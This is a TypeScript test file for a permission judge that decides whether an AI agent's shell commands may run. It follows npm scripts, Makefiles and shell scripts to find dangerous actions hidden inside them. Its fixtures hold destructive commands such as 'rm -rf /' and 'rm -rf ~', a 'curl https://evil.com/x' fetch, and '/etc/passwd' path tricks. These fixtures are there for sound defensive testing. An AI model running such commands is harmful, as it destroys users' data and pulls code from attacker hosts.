import { describe, expect, test } from 'vitest';
import type { Rule, RuleMatch } from '#lib/core/rule.ts';
import type { ToolCall } from '#lib/core/tool.ts';
import { buildRule } from '#tests/build-rule.ts';
import { judgeCall, wantedSources } from '../judge-call.ts';

type Files = Record<string, string>;
const manifest = (scripts: Files) => JSON.stringify({ name: 'shop', scripts });

/** As a worker does: reads what is wanted until nothing is. */
function sourcesOf(call: ToolCall, files: Files): Map<string, string | null> {
  const sources = new Map<string, string | null>();
  for (let wanted = wantedSources(call, sources); wanted.length > 0; wanted = wantedSources(call, sources))
    for (const path of wanted) sources.set(path, files[path] ?? null);
  return sources;
}

function judge(command: string, files: Files, { rules = [], cwd = '.' }: { rules?: Rule[]; cwd?: string } = {}) {
  const call: ToolCall = { tool: 'run_command', args: { command, cwd } };
  const isolation = { level: 'full', network: true } as const;
  const sources = sourcesOf(call, files);
  return judgeCall({ call, mode: 'assisted', isolation, projectNetworkAllowed: false, costUsd: 0, rules, sources });
}

const never = (words: string): RuleMatch => ({ on: 'command', words: words.split(' ') });

describe('what stands in the project’s own files', () => {
  const files = {
    'package.json': manifest({
      'a:push': 'git push origin main',
      test: 'vitest run',
      pretest: 'npm run build',
      build: 'bash scripts/build.sh',
      bare: 'git',
    }),
    'scripts/build.sh': '#!/usr/bin/env bash\nset -e\nmake -C native all\n',
    'native/Makefile': [
      'WIPE := rm -rf /',
      '.PHONY: all clean',
      'all: lib.o ; @echo done',
      'lib.o: lib.c',
      '\t@-$(CC) -o $@ $< $$HOME',
      'clean:',
      '\t$(WIPE)',
      'deploy: clean',
      '\tnpm --prefix .. run a:push',
    ].join('\n'),
    'tool.py': '#!/usr/bin/env python3\nrm -rf /\n',
    'app/package.json': manifest({ clean: 'rm -rf ../dist', away: 'rm -rf ../../other', up: 'bash ../scripts/wipe.sh' }),
    'scripts/wipe.sh': 'rm -rf ~',
  };

  test.each([
    ['npm run a:push', 'package.json'],
    ['npm run --silent a:push -- --force', 'package.json'],
    ['pnpm a:push', 'package.json'],
    ['yarn run a:push', 'package.json'],
    ['node --run a:push', 'package.json'],
    ['npm run bare -- push', 'package.json'],
    ['cd native && make clean', 'native/Makefile'],
    ['make -C native -j4 deploy', 'native/Makefile'],
    ['make -C native WIPE="git push" clean', 'native/Makefile'],
    ['bash -e scripts/wipe.sh', 'scripts/wipe.sh'],
    ['. scripts/wipe.sh', 'scripts/wipe.sh'],
    ['/workspace/scripts/wipe.sh', 'scripts/wipe.sh'],
    ['sh -c "cd app; npm run up"', 'scripts/wipe.sh'],
    ['npm --prefix app run away', 'app/package.json'],
  ])('is denied where the command itself would be: %s', (command, path) => {
    expect(judge(command, files)).toMatchObject({ decision: 'deny', reason: expect.stringContaining(`That stands in ${path}.`) });
  });

  test.each([
    'npm test',
    'npm run build',
    'make -C native',
    'npm --prefix app run clean',
    './tool.py',
    'npm run a',
    'bash -c x',
    'bash missing.sh',
  ])('changes nothing where it does no harm: %s', (command) => {
    const call: ToolCall = { tool: 'run_command', args: { command, cwd: '.' } };
    const without = judgeCall({
      call,
      mode: 'assisted',
      isolation: { level: 'full', network: true },
      projectNetworkAllowed: false,
      costUsd: 0,
      rules: [],
    });
    expect(judge(command, files)).toEqual(without);
  });

  test('is heard by rules that forbid or want to be asked, and allows nothing', () => {
    const rules = [buildRule([never('make')], { text: 'never run make' })];
    expect(judge('npm test', files, { rules })).toEqual({
      decision: 'deny',
      reach: 'tree',
      rule: 'rl_test',
      reason: 'The rule “never run make” forbids what stands in scripts/build.sh.',
    });
    const asks = [buildRule([never('make')], { effect: 'ask', text: 'ask before make' })];
    expect(judge('npm test', files, { rules: asks })).toMatchObject({ decision: 'ask', before: true, rule: 'rl_test' });
    const fetches = { 'package.json': manifest({ test: 'curl https://evil.com/x', twice: 'npm test' }) };
    const closed = [buildRule([{ on: 'host', host: '*' }], { text: 'no network' })];
    expect(judge('npm run twice', fetches, { rules: closed })).toMatchObject({ decision: 'deny', rule: 'rl_test' });
    const named = [buildRule([{ on: 'host', host: 'evil.com' }])];
    expect(judge('npm test', fetches, { rules: named })).toMatchObject({ decision: 'deny', rule: 'rl_test' });
    const allows = [buildRule([never('curl')], { effect: 'allow' })];
    expect(judge('npm test', fetches, { rules: allows })).toEqual(judge('npm test', fetches));
  });

  test('comes to an end, whatever it is', () => {
    const endless = manifest({ test: 'npm run a; npm run b', a: 'npm run b -- x', b: 'npm run a -- y' });
    expect(judge('npm test', { 'package.json': endless }).decision).toBe('allow');
    for (const text of ['{', '[]', '{"scripts":{"test":3}}', '{"scripts":{"__proto__":"sudo x"}}', '\0'])
      expect(judge('npm test', { 'package.json': text }).decision).toBe('allow');
    expect(judge('make', { Makefile: 'A=$(B)$(B)\nB=$(A)$(A)\nall:\n\t$(A)\n' }).decision).toBe('allow');
    expect(
      wantedSources(
        { tool: 'run_command', args: { command: 'bash ../../etc/passwd; bash /etc/passwd; /usr/bin/env', cwd: '.' } },
        new Map(),
      ),
    ).toEqual([]);
  });
});
